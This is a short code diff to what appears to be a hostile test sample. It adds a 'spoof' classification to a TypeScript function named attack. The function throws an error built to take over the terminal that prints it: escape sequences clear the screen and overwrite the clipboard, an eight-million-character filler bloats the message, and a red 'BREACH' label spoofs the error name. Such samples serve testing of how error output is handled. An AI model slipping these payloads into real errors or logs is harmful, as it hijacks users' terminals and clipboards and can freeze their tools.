@@ -1,4 +1,6 @@
 /** Throws an error that takes over the terminal of whoever prints it. */
+export const meta = { class: "spoof" };
+
 export function attack(): string {
   const error = new Error(`\u001b[2J\u001b]52;c;cHduZWQ=\u0007${"A".repeat(8_000_000)}`);
   Object.defineProperty(error, "name", { value: "\u001b[31mBREACH" });
